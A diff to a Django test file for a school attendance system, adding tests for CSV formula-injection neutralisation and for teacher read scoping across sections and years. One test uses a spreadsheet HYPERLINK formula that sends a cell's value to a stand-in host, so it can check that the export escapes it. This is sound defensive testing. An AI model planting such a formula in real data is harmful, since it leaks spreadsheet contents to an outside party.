@@ -15,12 +15,18 @@ from django.core import mail
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
 
-from apps.academics.tests.factories import EnrollmentFactory
+from apps.academics.tests.factories import (
+    AcademicYearFactory,
+    EnrollmentFactory,
+    SchoolClassFactory,
+    SectionFactory,
+)
 from apps.accounts.tests.factories import StudentFactory
 from apps.attendance import selectors
 from apps.attendance.buffer_kinds import KIND
 from apps.attendance.models import AttendanceRecord, mark_id
 from apps.core import buffer
+from apps.core.access import scope_queryset
 from apps.core.models import AuditLog
 
 from .conftest import flush_here
@@ -616,6 +622,20 @@ def test_monthly_register_json_and_csv(late_march, cast, att, api, month_of_mark
     )
 
 
+def test_register_csv_neutralises_formula_cells(cast, att, api):
+    formula = '=HYPERLINK("https://x.example/?"&A2,"Report")'
+    cast.student.user.full_name = formula
+    cast.student.user.save()
+    month = att.day.strftime("%Y-%m")
+    r = api(cast.admin).get(
+        "/api/v1/attendance/register.csv", {"section": att.sec_a.pk, "month": month}
+    )
+    assert r.status_code == 200, r.content
+    table = list(csv.reader(io.StringIO(r.content.decode())))
+    assert table[2][:2] == ["1", "'" + formula]
+    assert table[3][:2] == ["2", "Oscar Other"]
+
+
 def test_not_taken(cast, att, api):
     url = "/api/v1/attendance/not-taken/"
 
@@ -682,6 +702,63 @@ def test_reads_are_scoped(cast, att, api):
     assert students(cast.accountant.user, section=att.sec_a.pk, **day)[0] == 403
     r = api(cast.admin).get(LIST, {"section": att.sec_a.pk})
     assert r.status_code == 400 and "date" in r.json()["error"]["fields"]
+
+
+def test_a_teacher_reads_only_the_marks_of_sections_they_teach(cast, att, api):
+    """Sam moved: last year in 4-B (Vera), earlier this year marked in 5-B (Vera), now in 5-A
+    (Tara). Tara teaches Sam now but reads only the 5-A marks."""
+    last_year = AcademicYearFactory(
+        school=cast.school,
+        name="Last",
+        start_date=att.today - dt.timedelta(days=485),
+        end_date=att.today - dt.timedelta(days=121),
+    )
+    class4 = SchoolClassFactory(school=cast.school, name="Class 4", order=4)
+    old_section = SectionFactory(
+        school_class=class4, year=last_year, name="B", class_teacher=att.vera
+    )
+    EnrollmentFactory(section=old_section, student=cast.student, roll_number=7)
+    last_year_day = att.today - dt.timedelta(days=150)
+    for section, day in ((old_section, last_year_day), (att.sec_b, att.old_day)):
+        AttendanceRecord.objects.create(
+            id=mark_id(cast.school.pk, cast.student.pk, day, None),
+            school=cast.school,
+            student=cast.student,
+            section=section,
+            date=day,
+            status="absent",
+            marked_by=att.vera.user,
+            ts=1,
+        )
+    assert (
+        mark(api, cast.teacher.user, att.sec_a, att.day, [entry(cast.student)]).status_code == 200
+    )
+    span = {"student": cast.student.pk, "from": last_year_day, "to": att.today}
+
+    def read(user, url=LIST, **params):
+        r = api(user).get(url, {**span, **params})
+        assert r.status_code == 200, r.content
+        return r.json()
+
+    seen = read(cast.teacher.user)["results"]
+    assert [(m["date"], m["section"], m["status"]) for m in seen] == [
+        (att.day.isoformat(), str(att.sec_a.pk), "present")
+    ]
+    assert read(cast.teacher.user, section=att.sec_b.pk)["results"] == []
+    assert read(cast.teacher.user, section=old_section.pk)["results"] == []
+    summary = read(cast.teacher.user, "/api/v1/attendance/summary/")
+    assert summary["days_marked"] == 1 and summary["counts"]["absent"] == 0
+    # The school admin, Sam and Sam's parent read all three.
+    for user in (cast.admin, cast.student.user, cast.parent):
+        assert len(read(user)["results"]) == 3
+        assert read(user, "/api/v1/attendance/summary/")["counts"]["absent"] == 2
+    # The admin site's scope follows the same rule.
+    flush_here()
+    assert set(
+        scope_queryset(AttendanceRecord.objects.all(), cast.teacher.user).values_list(
+            "section_id", flat=True
+        )
+    ) == {att.sec_a.pk}
 
 
 # --- query counts -------------------------------------------------------------------------------
